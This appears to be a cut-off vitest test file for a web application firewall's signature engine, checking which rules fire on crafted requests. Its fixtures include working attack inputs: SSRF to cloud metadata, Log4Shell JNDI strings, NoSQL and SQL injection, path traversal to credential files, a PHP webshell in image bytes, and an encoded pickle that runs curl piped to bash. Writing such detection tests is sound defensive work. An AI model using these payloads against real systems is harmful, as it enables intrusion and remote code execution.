// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal text, not templates
/**
 * Requests shaped to get past an application's own checks (request-shape.ts, redirects.ts) and SVG
 * images in data URIs read as images.
 */
import { describe, expect, it } from "vitest";
import { createSignatureEngine, type SignatureInput } from "../../../core/signatures/index.ts";
import { matchesAt } from "./support.ts";

const where = (over: Partial<SignatureInput>): string[] => matchesAt(over, "app.example.com");
const path = (p: string) => where({ path: p, rawPath: p });
const query = (...q: Array<[string, string]>) => where({ query: q });
const header = (name: string, value: string) =>
  where({
    headers: [
      ["host", "app.example.com"],
      [name, value],
    ],
  });
/** Matches of a POST whose body is `text` under the form type. */
const formBody = (text: string): string[] =>
  where({
    method: "POST",
    body: { bytes: new TextEncoder().encode(text), contentType: "application/x-www-form-urlencoded", truncated: false },
  });
const json = (body: unknown) =>
  where({
    method: "POST",
    body: { bytes: new TextEncoder().encode(JSON.stringify(body)), contentType: "application/json", truncated: false },
  });

describe("headers only a framework sets", () => {
  it("takes them from a client, and leaves the client's own headers alone", () => {
    expect(header("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware")).toContain(
      "920275@header:x-middleware-subrequest",
    );
    expect(header("x-invoke-path", "/api/admin/rotate-keys")).toContain("920275@header:x-invoke-path");
    expect(header("x-original-url", "/admin")).toContain("920275@header:x-original-url");
    expect(header("camelexeccommandexecutable", "sh")).toContain("920275@header:camelexeccommandexecutable");
    expect(header("x-nextjs-data", "1")).toEqual([]);
    expect(header("x-middleware-prefetch", "1")).toEqual([]);
  });
});

describe("paths that encode what needs no encoding", () => {
  it("takes a percent-encoded letter or digit, once or twice", () => {
    expect(path("/%61dmin/billing")).toContain("920276@path");
    expect(path("/%2561dmin/dashboard")).toContain("920276@path");
  });

  it("leaves encoded reserved characters and an object key's own %2F alone", () => {
    expect(path("/api/v4/projects/group%2Fproject/files")).toEqual([]);
    expect(path("/analytics-exports/exports/report%252F2024-Q2.csv")).toEqual([]);
    expect(path("/files/annual%20report%202024.pdf")).toEqual([]);
  });
});

describe("filters on secret fields", () => {
  it("takes a filter naming a password or a reset token, in names or in the filter's text", () => {
    expect(query(["filters[author][password][$startsWith]", "$2a$10$"])).toContain(
      "942297@query:filters[author][password][$startsWith]",
    );
    expect(query(["where[or][1][resetPasswordToken][exists]", "true"])).toContain(
      "942297@query:where[or][1][resetPasswordToken][exists]",
    );
    expect(query(["filter", "authors.password:~^'$2a$10$'"])).toContain("942297@query:filter");
    expect(query(["filter", '{"user_created":{"password":{"_starts_with":"$argon2id$"}}}'])).toContain(
      "942297@query:filter",
    );
  });

  it("reads an ORM's own lookup syntax, projections and a filter's functions", () => {
    expect(query(["author__password__startswith", "pbkdf2_sha256$600000$a"])).toContain(
      "942297@query:author__password__startswith",
    );
    expect(query(["created_by__user__password__regex", "^argon2"])).toContain(
      "942297@query:created_by__user__password__regex",
    );
    expect(query(["q[reset_password_token_start]", "4f"])).toContain("942297@query:q[reset_password_token_start]");
    expect(query(["q[user_spree_api_key_start]", "c4"])).toContain("942297@query:q[user_spree_api_key_start]");
    expect(query(["filter[token][_starts_with]", "a"])).toContain("942297@query:filter[token][_starts_with]");
    expect(query(["$expand", "AssignedTo($select=UserName,PasswordHash;$expand=Roles)"])).toContain(
      "942297@query:$expand",
    );
    expect(query(["fields[users]", "email,password_digest"])).toContain("942297@query:fields[users]");
    expect(json({ owner: "u-1", filter: "attribute_exists(pk) OR attribute_exists(passwordHash)" })).toContain(
      "942297@body:json.filter",
    );
  });

  it("leaves an exact token lookup, a form's fields and ordinary lookups alone", () => {
    expect(query(["filter[token]", "inv_8KQ2"])).toEqual([]);
    expect(query(["q[email_cont]", "gmail"])).toEqual([]);
    expect(query(["q[reset_password_token_eq]", "x"])).toContain("942297@query:q[reset_password_token_eq]");
    expect(query(["fields", "name,email,password"])).toEqual([]);
    expect(query(["author__name__startswith", "Ann"])).toEqual([]);
    expect(query(["__VIEWSTATEGENERATOR", "B6E7D48B"])).toEqual([]);
  });

  it("takes a JSON filter's projection of a secret field, in an include's scope too (LoopBack)", () => {
    const filter = (f: object): string[] => query(["filter", JSON.stringify(f)]);
    expect(
      filter({ include: [{ relation: "customer", scope: { fields: ["email", "password", "verificationToken"] } }] }),
    ).toContain("942297@query:filter");
    expect(filter({ fields: { email: true, password: true } })).toContain("942297@query:filter");
    expect(filter({ fields: { email: true, name: true }, where: { active: true } })).toEqual([]);
    expect(filter({ fields: ["id", "email", "name"], limit: 10 })).toEqual([]);
  });

  it("takes a search query asking a secret field by its path or with a regular expression", () => {
    expect(query(["q", "title:(shoes) OR owner.password:/\\$2[aby]\\$.*/"])).toContain("942297@query:q");
    expect(query(["query", "user.password_hash:$2b*"])).toContain("942297@query:query");
    expect(query(["search", "password:/^a.*/"])).toContain("942297@query:search");
  });

  it("leaves filters on other fields, and a password field outside a filter, alone", () => {
    expect(query(["filters[title][$contains]", "password manager"])).toEqual([]);
    expect(query(["filter", "status:published+tag:security"])).toEqual([]);
    expect(query(["q", "reset password not working"])).toEqual([]);
    expect(query(["query", "password: forgotten, reset link expired"])).toEqual([]);
    expect(query(["q", "title:(shoes) OR owner.name:smith"])).toEqual([]);
    expect(query(["password_policy[min_length]", "12"])).toEqual([]);
  });
});

describe("redirects to a host that spells this one's as its prefix", () => {
  it("takes them as open redirects, and another site as an offsite one (paranoia 2)", () => {
    const r = where({
      headers: [["host", "auth.kestrelhealth.com"]],
      query: [["redirect_uri", "https://app.kestrelhealth.com.login-verify.net/callback"]],
    });
    expect(r).toContain("920261@query:redirect_uri");
    expect(
      where({
        headers: [["host", "auth.kestrelhealth.com"]],
        query: [["redirect_uri", "https://app.kestrelhealth.com/callback"]],
      }),
    ).toEqual([]);
    expect(
      where({
        headers: [["host", "auth.kestrelhealth.com"]],
        query: [["redirect_uri", "https://partner.example/callback"]],
      }),
    ).toEqual([]);
  });
});

describe("SVG images in data URIs", () => {
  const svg = (markup: string) => `data:image/svg+xml;base64,${btoa(markup)}`;

  it("passes an image that runs nothing, and takes one with a handler or a script", () => {
    expect(
      json({
        image: svg('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>'),
      }),
    ).toEqual([]);
    expect(json({ image: svg('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>') })).toContain(
      "941110@body:json.image.data.svg@onload",
    );
    expect(
      json({ image: "data:image/svg+xml;utf8,%3Csvg%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E%3C%2Fsvg%3E" }),
    ).toContain("941100@body:json.image.data.svg.script");
    // Not an SVG image: the data URI stays what the value scanners say.
    expect(json({ image: `data:text/html;base64,${btoa("<b>x</b>")}` })).toContain("941120@body:json.image");
  });
});

describe("a credential made a comparison", () => {
  it("takes an ORM's or a store's operator under a password", () => {
    expect(json({ email: "cto@example.dev", password: { not: "" } })).toContain("942290@body:json-name.password.not");
    expect(
      json({ username: { ComparisonOperator: "GT" }, password: { ComparisonOperator: "NE", AttributeValueList: [] } }),
    ).toContain("942290@body:json-name.password.ComparisonOperator");
  });

  it("leaves a password sent as a string, and operators on other fields, alone", () => {
    expect(json({ email: "a@example.com", password: "not in the list!" })).toEqual([]);
    expect(json({ where: { email: { contains: "@example.com" } } })).toEqual([]);
    expect(json({ password_policy: { not: "weak" } })).toEqual([]);
  });
});

describe("hosts of out-of-band interaction services", () => {
  it("takes a Host under one, and leaves the app's own host alone", () => {
    expect(header("host", "id.fabrikam.com.ct5mr2a7b3.oastify.com")).toContain("934135@header:host");
    expect(where({ headers: [["host", "x1.oast.live:443"]] })).toContain("934135@header:host");
    expect(where({ headers: [["host", "oastify.com"]] })).toEqual([]);
    expect(where({ headers: [["host", "api.example.com"]] })).toEqual([]);
  });
});

describe("a privilege field named twice", () => {
  it("takes a JSON object giving roles twice, and leaves one given once alone", () => {
    const body = (text: string) =>
      where({
        method: "PUT",
        body: { bytes: new TextEncoder().encode(text), contentType: "application/json", truncated: false },
      });
    expect(body('{"type":"user","name":"m","roles":["_admin"],"roles":[],"password":"x"}')).toContain(
      "920277@body:json-name.roles",
    );
    expect(body('{"type":"user","name":"m","roles":[],"password":"x"}')).toEqual([]);
    expect(body('{"members":[{"role":"owner"},{"role":"viewer"}]}')).toEqual([]);
  });

  it("takes a JSON-RPC call naming its method twice, and leaves a batch of calls alone", () => {
    const body = (text: string) =>
      where({
        method: "POST",
        body: { bytes: new TextEncoder().encode(text), contentType: "application/json", truncated: false },
      });
    const twice =
      '{"jsonrpc":"2.0","method":"account.balance","params":{"account":"acc_1"},"id":1,"method":"account.withdrawAll"}';
    expect(body(twice)).toContain("920277@body:json-name.method");
    expect(body('[{"jsonrpc":"2.0","method":"a","id":1},{"jsonrpc":"2.0","method":"b","id":2}]')).toEqual([]);
  });
});

describe("an SQL-only operator as a JSON key", () => {
  it("is the document's word (Elasticsearch's regexp query), as a bare form field still a probe", () => {
    expect(json({ query: { regexp: { "user.id": { value: "k.*y" } } } })).toEqual([]);
    expect(
      where({
        method: "POST",
        body: {
          bytes: new TextEncoder().encode("RLIKE"),
          contentType: "application/x-www-form-urlencoded",
          truncated: false,
        },
      }),
    ).toContain("942231@body:form-name.RLIKE");
  });
});

describe("ASP.NET's cookieless tokens", () => {
  it("takes a private folder they hide from request filtering, and leaves a session's token alone", () => {
    expect(path("/(S(x))/b/(S(x))in/Contoso.Web.dll")).toContain("920276@path");
    expect(path("/(A(%2e%2e))/(S(x))/App_Data/users.xml")).toContain("920276@path");
    expect(path("/(S(lit3py55t21z5v55vlm25s55))/orders/default.aspx")).toEqual([]);
  });
});

describe("a record's namespaced type", () => {
  it("leaves the AT Protocol's $type alone, and still takes MongoDB's", () => {
    expect(
      json({
        collection: "app.bsky.feed.post",
        record: { $type: "app.bsky.feed.post", facets: [{ features: [{ $type: "app.bsky.richtext.facet#link" }] }] },
      }),
    ).toEqual([]);
    expect(json({ password: { $type: "string" } })).toContain("942290@body:json-name.password.$type");
  });
});

describe("forwarding headers that name another site (host-override.ts)", () => {
  const withHost = (host: string, ...more: Array<[string, string]>) => where({ headers: [["host", host], ...more] });

  it("takes an X-Forwarded-Host, X-Host or Forwarded host= of another site", () => {
    expect(withHost("www.velocity-bikes.nl", ["x-forwarded-host", "velocity-bikes.nl.account-reset.co"])).toContain(
      "920279@header:x-forwarded-host",
    );
    expect(withHost("shop.gardenworks.nz", ["x-host", "gardenworks-nz.auth-reset.net"])).toContain(
      "920279@header:x-host",
    );
    expect(
      withHost("portal.paystream.net", ["forwarded", "for=203.0.113.9;host=ps-portal.help;proto=https"]),
    ).toContain("920279@header:forwarded");
    // A registrable name under a country's second level is its own site.
    expect(withHost("shop.acme.co.uk", ["x-forwarded-host", "evil.co.uk"])).toContain("920279@header:x-forwarded-host");
  });

  it("leaves the same site, a sibling subdomain and a port alone", () => {
    expect(withHost("app.example.com", ["x-forwarded-host", "app.example.com"])).toEqual([]);
    expect(withHost("app.example.com:8443", ["x-forwarded-host", "shop.example.com"])).toEqual([]);
    expect(withHost("shop.acme.co.uk", ["x-forwarded-host", "www.acme.co.uk:443"])).toEqual([]);
    expect(withHost("app.example.com", ["forwarded", "for=198.51.100.7;proto=https"])).toEqual([]);
  });

  it("trusts the app's own proxies (viaTrustedProxy)", () => {
    const over = {
      headers: [
        ["host", "origin.internal.example"] as [string, string],
        ["x-forwarded-host", "www.brand.com"] as [string, string],
      ],
    };
    expect(where(over)).toContain("920279@header:x-forwarded-host");
    expect(where({ ...over, viaTrustedProxy: true })).toEqual([]);
  });
});

describe("requests that only an open proxy would take", () => {
  it("takes a Host naming a cloud metadata service or a link-local address", () => {
    expect(where({ headers: [["host", "169.254.169.254"]] })).toContain("934110@header:host");
    expect(where({ headers: [["host", "metadata.google.internal."]] })).toContain("934110@header:host");
    expect(where({ headers: [["host", "[fd00:ec2::254]:80"]] })).toContain("934110@header:host");
    expect(where({ headers: [["host", "169.254.10.3:8080"]] })).toContain("934110@header:host");
    expect(where({ headers: [["host", "metadata.example.com"]] })).toEqual([]);
  });

  it("takes CONNECT as it takes TRACE", () => {
    expect(where({ method: "CONNECT", headers: [["host", "www.google.com:443"]] })).toContain("911100@method");
  });
});

describe("a Signature Version 4 header without its parts", () => {
  const auth = (value: string) => header("authorization", value);
  it("takes one missing its scope, signed headers or signature (CrushFTP's bypass)", () => {
    expect(auth("AWS4-HMAC-SHA256 Credential=crushadmin/")).toContain("920278@header:authorization");
    expect(
      auth("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20240514/us-east-1/s3/aws4_request, SignedHeaders=host"),
    ).toContain("920278@header:authorization");
  });

  it("leaves what the SDKs send alone", () => {
    expect(
      auth(
        "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20240514/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
      ),
    ).toEqual([]);
    expect(auth("Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig")).toEqual([]);
  });
});

describe("more of the shapes that get past an app's own checks", () => {
  it("takes WooCommerce Payments' platform-checkout header from a client", () => {
    expect(header("x-wcpay-platform-checkout-user", "1")).toContain("920275@header:x-wcpay-platform-checkout-user");
  });

  it("takes a Ransack prefix oracle on a secret reached through an association, not an exact match", () => {
    expect(query(["q[user_encrypted_password_start]", "$2a$10$x"])).toContain(
      "942297@query:q[user_encrypted_password_start]",
    );
    expect(query(["q[user_email_eq]", "a@b.example"])).toEqual([]);
    expect(query(["q[password_changed_at_gt]", "2024-01-01"])).toEqual([]);
  });

  it("reads a path segment that is a Base64 file name climbing out of its folder", () => {
    expect(path("/admin/export_file/download/filename/Li4vLi4vLi4vYXBwL2V0Yy9lbnYucGhw/key/f98d5ec1/")).toContain(
      "930110@path.b64",
    );
    expect(path("/admin/export_file/download/filename/ZXhwb3J0XzIwMjQuY3N2/key/f98d5ec1/")).toEqual([]);
  });
});

describe("Jenkins' CLI frames (body/cli-frames.ts)", () => {
  /** A frame stream: each argument an ARG frame (writeUTF), then ENCODING, LOCALE and START. */
  const frames = (...args: string[]): Uint8Array => {
    const out: number[] = [];
    const frame = (op: number, payload: number[]) => {
      const n = payload.length;
      out.push((n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff, op, ...payload);
    };
    const utf = (s: string) => {
      const b = [...new TextEncoder().encode(s)];
      return [(b.length >>> 8) & 0xff, b.length & 0xff, ...b];
    };
    for (const a of args) frame(0, utf(a));
    frame(2, utf("UTF-8"));
    frame(1, utf("en_US"));
    frame(3, []);
    return new Uint8Array(out);
  };
  const cli = (bytes: Uint8Array) =>
    where({
      method: "POST",
      path: "/cli",
      rawPath: "/cli",
      query: [["remoting", "false"]],
      body: { bytes, contentType: "application/octet-stream", truncated: false },
    });

  it("takes an argument that names a file for args4j to expand", () => {
    expect(cli(frames("help", "@/etc/passwd"))).toContain("930131@body:raw.cli.arg1");
    expect(cli(frames("connect-node", "@/var/jenkins_home/secrets/initialAdminPassword"))).toContain(
      "930131@body:raw.cli.arg1",
    );
  });

  it("leaves ordinary commands, and binary bodies that are no frame stream, alone", () => {
    expect(cli(frames("build", "nightly-report", "-p", "BRANCH=main"))).toEqual([]);
    const almost = frames("help", "@/etc/passwd").slice(0, -1);
    expect(cli(almost)).toEqual([]);
  });
});

describe("tokens, identities and paths a gateway trusts (the fortieth set's classes)", () => {
  const b64 = (o: unknown) => btoa(JSON.stringify(o)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
  const jwt = (h: unknown, p: unknown) => `${b64(h)}.${b64(p)}.c2ln`;
  const bearer = (h: unknown, p: unknown) => header("authorization", `Bearer ${jwt(h, p)}`);

  it("scans a bearer token's claims as values, a loopback issuer aside", () => {
    expect(bearer({ alg: "RS256", kid: "k1" }, { sub: "u9", name: "${jndi:ldap://x.oast.fun/a}" })).toContain(
      "944150@header:authorization.jwt.name",
    );
    expect(bearer({ alg: "HS256" }, { sub: "u1", tenant: "../../tenants/acme/admin" })).toContain(
      "930110@header:authorization.jwt.tenant",
    );
    expect(bearer({ alg: "RS256" }, { sub: "u1", iss: "http://169.254.169.254/latest/meta-data" })).toContain(
      "934110@header:authorization.jwt.iss",
    );
    expect(bearer({ alg: "RS256" }, { sub: "u1", iss: "http://localhost:8080/realms/dev", aud: "account" })).toEqual(
      [],
    );
    expect(
      bearer({ alg: "RS256", kid: "k1" }, { sub: "8f2c", name: "Siobhán O'Brien", scope: "openid profile email" }),
    ).toEqual([]);
  });

  it("reads a kid that is an object as JSON (a store's operator)", () => {
    expect(bearer({ alg: "HS256", kid: { $ne: null } }, { sub: "admin" })).toContain(
      "942290@header:authorization.jwt.kid",
    );
  });

  it("reads a token in a WebSocket subprotocol list", () => {
    expect(header("sec-websocket-protocol", `bearer, ${jwt({ alg: "none" }, { sub: "ops-admin" })}`)).toContain(
      "920253@header:sec-websocket-protocol",
    );
    expect(header("sec-websocket-protocol", "graphql-transport-ws")).toEqual([]);
  });

  it("takes an authenticating proxy's identity headers from a client, not from a trusted proxy", () => {
    expect(header("x-forwarded-user", "admin")).toContain("920275@header:x-forwarded-user");
    expect(header("x-consumer-username", "admin")).toContain("920275@header:x-consumer-username");
    expect(header("x-amzn-oidc-identity", "admin")).toContain("920275@header:x-amzn-oidc-identity");
    expect(header("x-apigateway-event", "%7B%7D")).toContain("920275@header:x-apigateway-event");
    const proxied = {
      headers: [
        ["host", "app.example.com"],
        ["x-forwarded-user", "jdoe"],
      ] as Array<[string, string]>,
    };
    expect(where({ ...proxied, viaTrustedProxy: true })).toEqual([]);
  });

  it("takes a parameter named as one of Camel's exec or file headers, in any case", () => {
    expect(query(["CAmelExecCommandExecutable", "ls"])).toContain("920275@query-name");
    expect(query(["camelCase", "true"])).toEqual([]);
  });

  it("takes Connection naming an mTLS proxy's identity header", () => {
    expect(header("connection", "close, X-Forwarded-Client-Cert")).toContain("920257@header:connection");
  });

  it("takes a path servers read differently from a rule that compares it as written", () => {
    expect(path("/actuator;/env")).toContain("920280@path");
    expect(path("/api/v1/%2e/internal/export")).toContain("920280@path");
    expect(path("/admin%09/config")).toContain("920280@path");
    // An empty path parameter ending the path (Jira's CVE-2022-0540).
    expect(path("/InsightPluginShowGeneralConfiguration.jspa;")).toContain("920280@path");
    expect(path("/shop;jsessionid=0A1B2C3D/cart")).toEqual([]);
    expect(path("/files/v1.%2e.tar.gz")).toEqual([]);
    expect(path("/api/v1/items/42")).toEqual([]);
  });

  it("reads a hex-encoded URL in a path segment (a camo proxy's)", () => {
    const hex = [...new TextEncoder().encode("http://169.254.169.254/latest/meta-data/")]
      .map((b) => b.toString(16).padStart(2, "0"))
      .join("");
    expect(path(`/external_content/b1946ac9/${hex}`)).toContain("934110@path.hex");
    const fine = [...new TextEncoder().encode("https://images.example.org/a.png")]
      .map((b) => b.toString(16).padStart(2, "0"))
      .join("");
    expect(path(`/camo/0f3a/${fine}`)).toEqual([]);
  });
});

describe("bodies read for what a server makes of them", () => {
  const body = (bytes: string | Uint8Array, contentType: string) =>
    where({
      method: "POST",
      body: {
        bytes: typeof bytes === "string" ? new TextEncoder().encode(bytes) : bytes,
        contentType,
        truncated: false,
      },
    });

  it("reads Socket.IO's polling packets as JSON", () => {
    expect(
      body(
        '42/pluginfw/installer,["install",{"plugin":"ep_x","url":"http://198.51.100.23/x.tgz"}]',
        "text/plain;charset=UTF-8",
      ),
    ).toContain("931100@body:json.socketio.1.url");
    expect(body('42["chat",{"text":"see you at 5 o\'clock"}]', "text/plain;charset=UTF-8")).toEqual([]);
  });

  it("reads the entry names of an archive posted whole", () => {
    const name = "../../../../mailboxd/webapps/zimbraAdmin/x.jsp";
    const zip = `PK\u0003\u0004\u0014\u0000\u0000\u0000\u0000\u0000C\u0019nTKeg.\u0018\u0001\u0000\u0000\u0018\u0001\u0000\u0000${String.fromCharCode(name.length)}\u0000\u0000\u0000${name}<%@ page %>`;
    const bytes = Uint8Array.from(zip, (ch) => ch.charCodeAt(0));
    expect(body(bytes, "application/octet-stream").some((m) => m.startsWith("930110@body:raw.archive.entry0"))).toBe(
      true,
    );
  });

  it("reads a JSON document in a plain multipart field as a form's", () => {
    const v = JSON.stringify({ "X-Trace": "1\r\nHost: 127.0.0.1\r\n\r\nGET /admin HTTP/1.1" });
    const mp = `--B\r\nContent-Disposition: form-data; name="extraHttpHeaders"\r\n\r\n${v}\r\n--B--\r\n`;
    expect(body(mp, "multipart/form-data; boundary=B")).toContain(
      "921110@body:multipart.extraHttpHeaders.json.X-Trace",
    );
  });
});

describe("the bearer token cache", () => {
  it("replays a token's findings under each request's own exclusions and paranoia", () => {
    const b64 = (o: unknown) => btoa(JSON.stringify(o)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
    const token = `${b64({ alg: "RS256" })}.${b64({ sub: "u1", name: "${jndi:ldap://cache.oast.fun/a}" })}.c2ln`;
    const input = {
      method: "GET",
      path: "/a",
      rawPath: "/a",
      query: [],
      headers: [
        ["host", "app.example"],
        ["authorization", `Bearer ${token}`],
      ] as Array<[string, string]>,
    };
    const engine = createSignatureEngine();
    const rules = (exclusions: Array<{ rules: string[] }>) =>
      engine.inspect(input, { paranoia: 1, threshold: 5, exclusions }).matches.map((m) => m.rule);
    expect(rules([])).toContain("944150");
    expect(rules([{ rules: ["java"] }])).not.toContain("944150");
    expect(rules([])).toContain("944150");
  });
});

describe("the forty-first and forty-second sets' classes", () => {
  const jsonBody = (text: string) =>
    where({
      method: "POST",
      body: { bytes: new TextEncoder().encode(text), contentType: "application/json", truncated: false },
    });
  const b64 = (t: string) => btoa(t);

  it("reads Base64 text in a JSON value and in a GraphQL node id", () => {
    const cursor = b64('["natural",{"id":"1) OR (SELECT 1 FROM pg_sleep(6))::text=(1"}]');
    expect(
      jsonBody(JSON.stringify({ variables: { after: cursor } })).some((m) => m.includes("variables.after.b64")),
    ).toBe(true);
    const node = b64('["accounts",1] UNION SELECT usename, passwd FROM pg_shadow--');
    expect(jsonBody(JSON.stringify({ query: `{ node(nodeId: "${node}") { nodeId } }` }))).toContain(
      "942130@body:json.query.arg.b64",
    );
    expect(jsonBody(JSON.stringify({ after: b64("arrayconnection:20") }))).toEqual([]);
  });

  it("reads Base64 JSON in a query value as JSON", () => {
    const header = b64(JSON.stringify({ host: "169.254.169.254", "x-api-key": "da2-k3v7q" }));
    expect(query(["header", header])).toContain("934110@query:header.b64.host");
  });

  it("takes a GraphQL document built to brute force or exhaust", () => {
    const logins = Array.from({ length: 10 }, (_, k) => `a${k}: login(email: "a@b.c", password: "p${k}") { token }`);
    expect(jsonBody(JSON.stringify({ query: `mutation { ${logins.join(" ")} }` }))).toContain("920281@body:json.query");
    expect(jsonBody(JSON.stringify({ query: `query { __typename ${"@aa".repeat(60)} }` }))).toContain(
      "920281@body:json.query",
    );
    expect(
      jsonBody(JSON.stringify({ query: "query Q { ...A } fragment A on Query { ...B } fragment B on Query { ...A }" })),
    ).toContain("920281@body:json.query");
    const fine = "query P($a: ID!, $b: ID!) { first: product(id: $a) { name } second: product(id: $b) { name } }";
    expect(jsonBody(JSON.stringify({ query: fine }))).toEqual([]);
  });

  it("takes a field selected inside itself five times, and logins or codes tried three at once", () => {
    const friends = `query { user(id: 1) { ${"friends { ".repeat(6)}id${" }".repeat(6)} } }`;
    expect(jsonBody(JSON.stringify({ query: friends }))).toContain("920281@body:json.query");
    const replies = "query { post(id: 1) { comments { replies { replies { text } } } } }";
    expect(jsonBody(JSON.stringify({ query: replies }))).toEqual([]);
    const cycle = `query { user(id: 1) { ${"posts { author { ".repeat(6)}id${" } }".repeat(6)} } }`;
    expect(jsonBody(JSON.stringify({ query: cycle }))).toContain("920281@body:json.query");
    const thread = "query { post(id: 1) { author { posts { author { name } } } } }";
    expect(jsonBody(JSON.stringify({ query: thread }))).toEqual([]);
    const login = "mutation($u:String!,$p:String!){login(username:$u,password:$p){token}}";
    const batch = ["123456", "password", "qwerty"].map((p) => ({ query: login, variables: { u: "admin", p } }));
    expect(jsonBody(JSON.stringify(batch))).toContain("920287@body:json.2.query");
    const aliased =
      'mutation { a: verifyOtp(code: "1000") { ok } b: verifyOtp(code: "1001") { ok } c: verifyOtp(code: "1002") { ok } }';
    expect(jsonBody(JSON.stringify({ query: aliased }))).toContain("920287@body:json.query");
    const once = [{ query: login, variables: { u: "ann", p: "x" } }, { query: "query { me { id } }" }];
    expect(jsonBody(JSON.stringify(once))).toEqual([]);
    const signUp = 'mutation { signUp(email: "a@b.c") { id } login(email: "a@b.c", password: "x") { token } }';
    expect(jsonBody(JSON.stringify({ query: signUp }))).toEqual([]);
    const rpc = ["1000", "1001", "1002"].map((pin, id) => ({
      jsonrpc: "2.0",
      method: "auth.login",
      params: { pin },
      id,
    }));
    expect(jsonBody(JSON.stringify(rpc))).toContain("920287@body:json.2.method");
    const mixed = [
      { jsonrpc: "2.0", method: "auth.login", params: { pin: "1000" }, id: 1 },
      { jsonrpc: "2.0", method: "orders.list", id: 2 },
    ];
    expect(jsonBody(JSON.stringify(mixed))).toEqual([]);
  });

  it("takes a JSON body that escapes what no serializer escapes", () => {
    expect(jsonBody('{"filter":{"\\u0024or":[{"_id":{"\\u0024gt":""}}]}}')).toContain("920282@body");
    expect(jsonBody('{"query":"query { \\u005f\\u005fschema { types { name } } }"}')).toContain("920282@body");
    // Go's and .NET's HTML-safe escapes, non-ASCII, control characters and an escaped backslash are a serializer's.
    expect(
      jsonBody('{"html":"\\u003cb\\u003e \\u0026 \\u0027","name":"Jos\\u00e9","t":"a\\u0009b","p":"C:\\\\u0041"}'),
    ).toEqual([]);
  });

  it("takes a design token's $type as a type, and MongoDB's as an operator", () => {
    expect(jsonBody(JSON.stringify({ tokens: { color: { brand: { $value: "#0F172A", $type: "color" } } } }))).toEqual(
      [],
    );
    expect(jsonBody(JSON.stringify({ username: "admin", password: { $type: "string" } }))).toContain(
      "942290@body:json-name.password.$type",
    );
  });

  it("knows GraphQL scanners by their user agents, and Python's httpx for a client", () => {
    expect(header("user-agent", "clairvoyance/2.5.4")).toContain("913100@header:user-agent");
    expect(header("user-agent", "httpx/0.27.0")).toEqual([]);
  });
});

describe("the forty-first pair's classes", () => {
  it("takes a filter parameter's JSON as the API's own query, unless an operand matches every record", () => {
    expect(query(["filter", '{"acctstoptime":{"$exists":false},"username":{"$contains":"ACME"}}'])).toEqual([]);
    expect(query(["filter", '{"status":{"$ne":"archived"},"total":{"$gte":50}}'])).toEqual([]);
    expect(query(["filter", '{"owner":{"$ne":null},"private":true}'])).toContain("942290@query:filter");
    expect(query(["filter", '{"owner":{"$nin":[]}}'])).toContain("942290@query:filter");
    expect(query(["filter", '{"$or":[{"owner":"me"},{"_id":{"$exists":true}}]}'])).toContain("942290@query:filter");
    expect(query(["q", '{"status":{"$gt":1}}'])).toContain("942290@query:q");
    // An experiment's targeting condition in GrowthBook's Mongo syntax is such a query too.
    const targeting = (condition: object) => json({ key: "annual", targeting: { condition } });
    expect(targeting({ country: { $in: ["US", "CA"] }, isEmployee: { $ne: true } })).toEqual([]);
    expect(targeting({ owner: { $ne: null } })).toEqual(expect.arrayContaining([expect.stringMatching(/^942290@/)]));
    // An operator outside the filter vocabulary is not forgiven by an allowed one after it.
    expect(query(["where", '{"deviceToken":{"$regex":".*"},"$or":[{"channels":{"$eq":"a"}}]}'])).toContain(
      "942290@query:where",
    );
  });

  it("reads an elFinder hash's path and the PHP in an image's bytes", () => {
    expect(query(["target", "l1_Li4vLi4vLi4vY29uZmlnL2xvY2FsLnBocA"])).toContain("930110@query:target.b64");
    expect(query(["target", "l1_aW1hZ2VzL2xvZ29z"])).toEqual([]);
    const png = (tail: string) => btoa(`\u0089PNG\r\n\u001a\n${tail}`);
    const logo = (tail: string) =>
      where({
        method: "POST",
        body: {
          bytes: new TextEncoder().encode(JSON.stringify({ logo: `data:image/png;base64,${png(tail)}` })),
          contentType: "application/json",
          truncated: false,
        },
      });
    expect(logo("<?php system($_REQUEST['c']); ?>")).toContain("933100@body:json.logo.data");
    expect(logo("\u0000\u0000\u0000\rIHDR\u0000\u0000\u0001")).toEqual([]);
  });

  it("reads a pickled session cookie's imports, and leaves one that imports nothing", () => {
    const session = (v: string) =>
      header("cookie", `csrftoken=34hx; sessionid=${v}:1rVx2K:mcUqho14UBIiuEAD2LLlpbKtVx0`);
    expect(session("gASVLgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBZjdXJsIDQ1Ljg4LjkxLjMva3xiYXNolIWUUpQu")).toContain(
      "934155@cookie:sessionid.b64.pickle",
    );
    expect(session("gAWVGQAAAAAAAAB9lIwNX2F1dGhfdXNlcl9pZJSMAjQylHMu")).toEqual([]);
  });

  it("inflates a compressed pickled session (Django's `.eJ…`) before reading it", () => {
    const session = (v: string) => header("cookie", `sessionid=${v}:1rVx2K:mcUqho14UBIiuEAD2LLlpbKtVx0`);
    expect(session(".eJxrYEouyC_OrOAqriwuSc3lKmSIEGNgYEguLcpRMDHVs7DQszTUM9bPrklKLM4oZGwtZAoqZNYDAMAcD5k")).toContain(
      "934155@cookie:sessionid.b64.pickle",
    );
  });

  it("leaves a cookie whose only line break ends it", () => {
    const cookie = (v: string) => header("cookie", v);
    expect(cookie('APSCOOKIE_1="Era%3D0%26AuthHash%3DE8BCx38Tuo1%0A"; ccsrftoken="dcc9"')).toEqual([]);
    expect(cookie("lang=en%0d%0aSet-Cookie:%20admin=1")).toContain("921130@cookie:lang");
  });
});

describe("the forty-second pair's classes", () => {
  const jsonPost = (body: unknown) =>
    where({
      method: "POST",
      body: {
        bytes: new TextEncoder().encode(JSON.stringify(body)),
        contentType: "application/json",
        truncated: false,
      },
    });
